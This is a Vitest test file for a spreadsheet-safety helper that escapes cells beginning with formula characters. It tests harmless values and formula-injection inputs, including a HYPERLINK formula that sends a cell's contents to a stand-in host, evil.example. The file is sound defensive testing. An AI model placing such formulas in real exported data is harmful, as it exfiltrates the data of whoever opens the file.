import { describe, expect, it } from "vitest";
import { looksLikeFormula, neutraliseCell } from "../../src/reports/spreadsheet-safety.js";

describe("neutraliseCell", () => {
  it.each([
    ["=SUM(A1)", "'=SUM(A1)"],
    ["+1", "'+1"],
    ["-1", "'-1"],
    ["@cmd", "'@cmd"],
    ["\t=1", "'\t=1"],
    ["\r=1", "'\r=1"],
    ['=HYPERLINK("http://evil.example/?"&A1)', '\'=HYPERLINK("http://evil.example/?"&A1)'],
    ["\uFF1D1+1", "'\uFF1D1+1"],
  ])("puts an apostrophe before %j so no spreadsheet runs it", (cell, safe) => {
    expect(neutraliseCell(cell)).toBe(safe);
    expect(looksLikeFormula(cell)).toBe(true);
  });

  it("turns the seed's own '+1356' and '-5%' into text that starts with an apostrophe", () => {
    expect(neutraliseCell("+1356")).toBe("'+1356");
    expect(neutraliseCell("-5%")).toBe("'-5%");
  });

  it.each(["1183", "Proposed at 592 (50% reduction)", "39% (-5%)", "NI 47 * People killed", "", "Lead: Kent County Council*", "'already quoted"])(
    "leaves %j as it is",
    (cell) => {
      expect(neutraliseCell(cell)).toBe(cell);
      expect(looksLikeFormula(cell)).toBe(false);
    },
  );
});
